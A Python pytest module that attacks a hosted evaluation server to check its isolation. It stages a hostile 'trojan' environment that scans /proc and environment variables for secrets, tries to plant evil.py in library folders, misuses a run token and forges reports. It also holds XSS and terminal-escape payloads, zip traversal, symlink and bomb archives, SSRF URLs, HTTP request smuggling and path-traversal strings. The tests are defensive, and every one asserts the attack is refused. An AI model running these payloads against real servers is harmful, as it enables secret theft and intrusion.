"""Everything that somebody hostile might try, on one page; every attack must fail.

A stranger with an account, an author whose environment means harm, and a run that gets out of hand attack a
real server in a process of its own. What its parts refuse by themselves is tested with them: tests/hosting,
and hub, inference, places and secrets beside this file.
"""

from __future__ import annotations

import json
import re
import socket
import stat
from collections.abc import Iterator
from pathlib import Path
from typing import Any, NamedTuple

import pytest

from tests.server.hub.packages import add_to_zip, made, push
from tests.server.serving import Api
from tests.server.workplace import Person, Workplace, workplace
from tests.waiting import wait_for

pytestmark = [pytest.mark.usefixtures("sandboxes"), pytest.mark.xdist_group("attacks")]

TREASURE = "trea" + "sure-4711"
PROVIDER_KEY = "sk-provider-" + TREASURE
PAGE = "</script><img src=x onerror=alert(1)>"
BELL = "\x1b]0;owned\x07\x1b[2J\x9b31m"

VICTIM = '''
"""Keeps a secret and takes its time."""

import os
from proctor import Rubric, SingleTurnEnv


def load_environment():
    print("the key is", os.environ["JUDGE_KEY"])
    rows = [{"question": f"say {number}", "answer": "x"} for number in range(500)]
    return SingleTurnEnv(rows, rubric=Rubric(lambda completion: 1.0))
'''

TROJAN = r'''
"""Tries everything, and prints what came of it."""

import glob, json, os, sys, urllib.error, urllib.request
from proctor import Rubric, SingleTurnEnv

WORD = "trea" + "sure"


def tell(name, value):
    print("TRIED " + json.dumps([name, value]))


def ask(method, path, body=None, token=None):
    request = urllib.request.Request(os.environ["PROCTOR_API_URL"] + path, method=method)
    request.add_header("authorization", "Bearer " + (token or os.environ["PROCTOR_API_KEY"]))
    request.add_header("content-type", "application/json")
    data = None if body is None else json.dumps(body).encode()
    try:
        with urllib.request.urlopen(request, data, timeout=20) as response:
            return [response.status, response.read().decode()[:2000]]
    except urllib.error.HTTPError as error:
        return [error.code, error.read().decode()[:2000]]
    except OSError as error:
        return [0, str(error)]


def seen(pattern):
    found = []
    for file in glob.glob(pattern, recursive=True):
        try:
            if WORD in open(file, errors="replace").read():
                found.append(file)
        except OSError:
            pass
    return found


def load_environment(data="", victim="", environment="", pages=()):
    inside = [file for file in glob.glob(data + "/**", recursive=True) if os.path.isfile(file)]
    tell("files", [file for file in inside if not file.startswith(sys.prefix)])
    tell("others", [file for file in inside if "keeper" in file])
    tell("processes", seen("/proc/[0-9]*/environ") + seen("/proc/[0-9]*/cmdline"))
    tell("variables", [name for name, value in os.environ.items() if WORD in value])
    tell("folders", seen("/workspace/**") + seen("/tmp/**") + seen("/run/**"))
    try:
        with open(os.path.join(os.path.dirname(json.__file__), "evil.py"), "w"):
            tell("library", "written")
    except OSError as error:
        tell("library", "refused")
    try:
        with open(os.path.join(os.path.dirname(__file__), "evil.py"), "w"):
            tell("package", "written")
    except OSError as error:
        tell("package", "refused")
    for method, path, body in pages:
        tell(f"{method} {path}", ask(method, path, body))
    status = {"seq": 1, "at": 0, "kind": "status", "status": "failed"}
    line = {"level": "INFO", "text": "forged line", "at": 1.0}
    forged = {"batch": 900, "status": "finished", "events": [status], "run_id": victim, "logs": [line]}
    tell("forged", ask("POST", "/api/v1/runner/reports", forged))
    tell("token", os.environ["PROCTOR_API_KEY"][::-1])
    print("all my variables:", dict(os.environ))
    print("\x1b]0;owned\x07\x1b[2J\x9b31mlook here \x00 nothing")
    os.write(1, b"\xff\xfe no text\n")
    print("x" * 3_000_000)
    rows = [{"question": "\x1b]0;owned\x07</script><img src=x onerror=alert(1)>\x00", "answer": "\x1b[2J"}]
    return SingleTurnEnv(rows, rubric=Rubric(lambda completion: 1.0))
'''


class Siege(NamedTuple):
    place: Workplace
    ada: Person
    eve: Person
    victim: str
    """Ada's run, which is being played while the others try."""
    trojan: str
    """Eve's run, which has ended."""
    tried: dict[str, Any]

    def api(self, person: Person) -> Api:
        return Api(self.place.url, token_of(person))


def token_of(person: Person) -> str:
    kept = json.loads((person.home / "config" / "proctor" / "contexts.json").read_text())
    return str(kept["contexts"][kept["current"]]["token"])


CRASHED = {"code": "crashed", "message": "forged"}
PAGES: list[tuple[str, str, Any]] = [
    ("GET", "/api/v1/runs/{victim}", None),
    ("GET", "/api/v1/runs/{victim}/rows", None),
    ("GET", "/api/v1/runs/{victim}/events", None),
    ("GET", "/api/v1/runs/{victim}/events/stream", None),
    ("GET", "/api/v1/runs/{victim}/results.jsonl", None),
    ("GET", "/api/v1/runs/{victim}/metadata.json", None),
    ("POST", "/api/v1/runs/{victim}/stop", {}),
    ("POST", "/api/v1/runs/{victim}/resume", {}),
    ("DELETE", "/api/v1/runs/{victim}", None),
    ("POST", "/api/v1/uploads/{victim}/reports", {"batch": 1, "logs": [["INFO", "forged", 1.0]]}),
    ("POST", "/api/v1/uploads/{victim}/end", {"status": "failed"}),
    (
        "POST",
        "/api/v1/hosts/runs/{victim}/lost?host=x&attempt=1",
        {"cause": {"code": "crashed", "message": ""}},
    ),
    ("POST", "/api/v1/hosts/claims", {"host": "mine"}),
    ("POST", "/api/v1/hosts/checks/claims", {}),
    ("GET", "/api/v1/environments/{environment}/secrets", None),
    ("GET", "/api/v1/environments/{environment}", None),
    ("GET", "/api/v1/secrets", None),
    ("POST", "/api/v1/secrets", {"name": "MINE", "value": "mine-mine"}),
    ("POST", "/api/v1/tokens", {"name": "more"}),
    ("GET", "/api/v1/tokens", None),
    ("GET", "/api/v1/whoami", None),
    ("GET", "/api/v1/teams", None),
    ("GET", "/api/v1/users", None),
    ("POST", "/api/v1/users", {"name": "mallory", "is_admin": True}),
    ("GET", "/api/v1/balance", None),
    ("GET", "/api/v1/entries", None),
    ("GET", "/api/v1/usage?run={victim}", None),
    ("POST", "/api/v1/grants", {"owner": "eve", "amount_usd": 5}),
    ("POST", "/api/v1/runs", {"environment": "eve/trojan"}),
    ("POST", "/api/v1/environments/eve/trojan/fork", {}),
    ("POST", "/api/v1/sandboxes", {}),
    ("POST", "/api/v1/instances", {"command": ["sh"], "port": 80}),
    ("POST", "/api/v1/runtime/sessions", {"environment": "eve/trojan", "task": "0"}),
]


@pytest.fixture(scope="module")
def siege(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Siege]:
    folder = tmp_path_factory.mktemp("siege")
    with workplace(folder, environ={"OPENAI_API_KEY": PROVIDER_KEY}) as place:
        ada, eve = place.person("ada"), place.person("eve")
        victim = start_victim(ada)
        trojan = start_trojan(place, eve, victim)
        eve("eval", "wait", trojan)
        wait_for(lambda: ada.ok("eval", "info", victim, "--json").json["progress"]["settled"] >= 1)
        lines = eve.ok("eval", "logs", trojan, "--json").stdout
        yield Siege(place, ada, eve, victim, trojan, tried_in(lines))
        ada.ok("eval", "stop", victim, "--yes")


def start_victim(ada: Person) -> str:
    ada.write_environment("keeper", VICTIM)
    ada.ok("env", "push", "keeper", "--json")
    (ada.home / "keys.env").write_text(f"JUDGE_KEY={TREASURE}\n")
    words = ("eval", "run", "ada/keeper", "--hosted", "-m", "slow-parrot", "-n", "-1", "-r", "1", "-c", "1")
    return str(ada.ok(*words, "--custom-secrets", "@keys.env", "--json").json["runs"][0]["id"])


def start_trojan(place: Workplace, eve: Person, victim: str) -> str:
    pages = [(method, filled(path, victim), body) for method, path, body in PAGES]
    given = {"data": str(place.data), "victim": victim, "environment": "ada/keeper", "pages": pages}
    eve.write_environment("trojan", TROJAN)
    eve.ok("env", "push", "trojan", "--json")
    words = ("eval", "run", "eve/trojan", "--hosted", "-m", "parrot", "-r", "1", "-a", json.dumps(given))
    return str(eve.ok(*words, "--json").json["runs"][0]["id"])


def filled(path: str, victim: str) -> str:
    return path.replace("{victim}", victim).replace("{environment}", "ada/keeper")


def tried_in(log: str) -> dict[str, Any]:
    found = {}
    for line in log.splitlines():
        text = str(json.loads(line).get("text", ""))
        if text.startswith("TRIED "):
            name, value = json.loads(text.removeprefix("TRIED "))
            found[name] = value
    return found


# Where a run lives


def test_a_run_sees_nothing_of_the_servers_data(siege: Siege) -> None:
    """Of its data folder, only the virtual environment that the run itself was started from."""
    assert (siege.tried["files"], siege.tried["others"]) == ([], [])


def test_a_run_sees_no_secret_of_another_run_nor_any_providers_key(siege: Siege) -> None:
    assert [siege.tried[name] for name in ("processes", "variables", "folders")] == [[], [], []]


def test_a_run_cannot_change_the_packages_that_the_next_run_will_load(siege: Siege) -> None:
    assert (siege.tried["library"], siege.tried["package"]) == ("refused", "refused")


def test_no_command_line_of_the_machine_shows_a_secret_while_runs_are_played(siege: Siege) -> None:
    assert siege.ada.ok("eval", "info", siege.victim, "--json").json["status"] == "running"
    words = [contents(file) for file in Path("/proc").glob("[0-9]*/cmdline")]
    assert any(b"proctor.runner" in each for each in words)
    token = re.compile(rb"proctor_[0-9a-zA-Z]+_")
    assert [each for each in words if TREASURE.encode() in each or token.search(each)] == []


def contents(file: Path) -> bytes:
    try:
        return file.read_bytes()
    except OSError:
        return b""


# What its token is good for


@pytest.mark.parametrize(("method", "path"), [(method, path) for method, path, _ in PAGES])
def test_a_runs_token_opens_nothing_else(siege: Siege, method: str, path: str) -> None:
    status, text = siege.tried[f"{method} {filled(path, siege.victim)}"]
    assert status in (403, 404), text
    assert TREASURE not in text


def test_a_runs_token_is_good_for_nothing_when_the_run_is_over(siege: Siege) -> None:
    stolen = Api(siege.place.url, siege.tried["token"][::-1])

    for method, path, body in (
        ("POST", "/runner/reports", {"batch": 999, "logs": [["INFO", "too late", 1.0]]}),
        ("POST", "/runner/end", {"status": "failed"}),
        ("GET", "/runner/results.jsonl", None),
        ("GET", "/environments/eve/trojan", None),
    ):
        answer = stolen(method, path, body)
        assert (answer.status, answer.code) == (401, "run_over"), path
    assert stolen("POST", "/v1/chat/completions", {"model": "parrot", "messages": []}).status == 401


def test_forged_events_are_not_told(siege: Siege) -> None:
    assert siege.tried["forged"][0] == 200  # it may say a line, and no more
    told = siege.api(siege.eve).get(f"/runs/{siege.trojan}/events?limit=1000")["items"]
    assert [event["status"] for event in told if event["kind"] == "status"] == [
        "pending",
        "running",
        "finished",
    ]
    assert [event["seq"] for event in told] == list(range(1, len(told) + 1))
    others = siege.api(siege.ada).get(f"/runs/{siege.victim}/events")["items"]
    assert not any("forged" in event.get("text", "") for event in others)


# What it says


@pytest.mark.parametrize("words", [("logs",), ("info",), ("samples", "--full"), ("samples",)])
def test_a_terminal_obeys_nothing_that_a_run_or_its_model_says(siege: Siege, words: tuple[str, ...]) -> None:
    said = siege.eve.ok("eval", words[0], siege.trojan, *words[1:])
    assert not set(said.stdout + said.stderr) & set("\x1b\x9b\x07\x00")
    assert "Traceback" not in said.stderr


def test_what_a_model_says_is_data_for_a_browser_and_never_a_page(siege: Siege) -> None:
    eve = siege.api(siege.eve)
    for path in ("rows", "events", "results.jsonl", "metadata.json", ""):
        answer = eve("GET", f"/runs/{siege.trojan}/{path}".rstrip("/"))
        assert answer.status == 200
        assert answer.headers["content-type"].split(";")[0] in ("application/json", "application/x-ndjson")
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers["cache-control"] == "no-store"
    assert PAGE in json.dumps(eve.get(f"/runs/{siege.trojan}/rows"))


def test_a_line_of_megabytes_is_cut_and_holds_nothing_up(siege: Siege) -> None:
    told = siege.api(siege.eve).get(f"/runs/{siege.trojan}/events?limit=1000")["items"]
    assert max(len(event.get("text", "")) for event in told) < 20_000


def test_neither_secrets_nor_tokens_are_in_what_a_run_prints(siege: Siege) -> None:
    log = siege.ada.ok("eval", "logs", siege.victim).stdout
    assert "the key is [secret JUDGE_KEY]" in log
    printed = siege.eve.ok("eval", "logs", siege.trojan, "--json").stdout
    assert "all my variables" in printed
    assert "proctor_" not in printed.replace(siege.tried["token"], "")


def test_no_secret_is_in_anything_that_is_told_of_a_run_or_written_by_the_server(siege: Siege) -> None:
    ada = siege.api(siege.ada)
    for path in ("", "/rows", "/events", "/metadata.json"):
        assert TREASURE not in json.dumps(ada.get(f"/runs/{siege.victim}{path}"))
    for file in (siege.place.log, *siege.place.data.glob("proctor.db*")):
        content = contents(file)
        assert TREASURE.encode() not in content
        assert token_of(siege.ada).split("_", 2)[2].encode() not in content


# Strangers with an account


def test_a_stranger_learns_nothing_of_a_run_or_an_environment(siege: Siege) -> None:
    eve = siege.api(siege.eve)
    for method, path in (
        ("GET", f"/runs/{siege.victim}"),
        ("GET", f"/runs/{siege.victim}/events/stream"),
        ("POST", f"/runs/{siege.victim}/stop"),
        ("GET", f"/usage?run={siege.victim}"),
        ("GET", "/environments/ada/keeper"),
        ("GET", "/environments/ada/keeper/secrets"),
        ("PUT", "/environments/ada/keeper/collaborators"),
        ("POST", "/environments/ada/keeper/fork"),
        ("GET", "/balance?owner=ada"),
        ("GET", "/teams/lab/members"),
    ):
        body = {"name": "eve", "role": "owner"} if method == "PUT" else None if method == "GET" else {}
        there = eve(method, path, body)
        nowhere = eve(method, path.replace(siege.victim, "run-0000000000").replace("keeper", "nothing"), body)
        assert (there.status, there.code) == (nowhere.status, nowhere.code) == (404, "not_found"), path
    assert all(run["owner"] == "eve" for run in eve.get("/runs?owner=ada&limit=100")["items"])
    assert eve.get("/environments?search=keeper")["items"] == []
    assert "keeper" not in json.dumps(eve("GET", "/simple/").body)


@pytest.mark.parametrize(
    "harm",
    [
        add_to_zip("../../outside.py"),
        add_to_zip("link", b"/etc/passwd", stat.S_IFLNK | 0o777),
        add_to_zip("bomb.bin", bytes(80 * 2**20)),
    ],
    ids=["traversal", "symlink", "bomb"],
)
def test_a_wheel_that_leaves_its_folder_or_explodes_is_refused(
    siege: Siege, tmp_path: Path, harm: Any
) -> None:
    answer = push(siege.api(siege.eve), made(tmp_path, wheel=harm))
    assert (answer.status, answer.code) == (422, "bad_wheel")


@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.1:{port}/v1",
        "http://localhost:{port}/v1",
        "http://2130706433:{port}/v1",
        "http://[::ffff:127.0.0.1]:{port}/v1",
        "http://[::1]:{port}/v1",
        "http://0.0.0.0:{port}/v1",
        "http://169.254.169.254/latest/meta-data",
        "file:///etc/passwd",
    ],
)
def test_an_endpoint_does_not_lead_into_the_servers_own_network(siege: Siege, url: str) -> None:
    settings = {"api_base_url": url.format(port=siege.place.port)}
    asked = {"environment": "eve/trojan", "model": "parrot", "settings": settings}
    answer = siege.api(siege.eve)("POST", "/runs", asked)
    assert (answer.status, answer.body["details"]["field"]) == (422, "api_base_url")


def test_a_body_without_end_is_refused_before_it_was_read(siege: Siege) -> None:
    head = (
        f"POST /api/v1/secrets HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {token_of(siege.eve)}\r\n"
        "Content-Type: application/json\r\nContent-Length: 9000000000\r\n\r\n"
    )
    assert said_to(siege.place, head.encode() + b"[" * 100).startswith(b"HTTP/1.1 413")


def test_a_request_with_two_lengths_is_not_two_requests(siege: Siege) -> None:
    smuggled = b"GET /api/v1/health HTTP/1.1\r\nHost: x\r\n\r\n"
    head = (
        b"POST /api/v1/secrets HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n"
    )
    said = said_to(siege.place, head + b"0\r\n\r\n" + smuggled)
    assert said.startswith(b"HTTP/1.1 400")
    assert b"version" not in said


def said_to(place: Workplace, raw: bytes) -> bytes:
    with socket.create_connection(("127.0.0.1", place.port), 10) as connection:
        connection.sendall(raw)
        return connection.recv(65_536)


def test_paths_lead_nowhere_else(siege: Siege) -> None:
    eve = siege.api(siege.eve)
    for path in (
        "/simple/..%2f..%2fadmin-token",
        "/simple/eve/..%2f..%2fada/keeper",
        "/simple/eve/trojan/..%2f..%2f..%2f..%2fetc%2fpasswd",
        "/api/v1/environments/eve/trojan/versions/0.1.0/files?path=../../../../etc/passwd",
        "/api/v1/environments/eve/..%2fada%2fkeeper",
        "/api/v1/hosts/wheels/..%2f..%2fsecret.key",
    ):
        assert eve("GET", path).status in (403, 404, 422), path
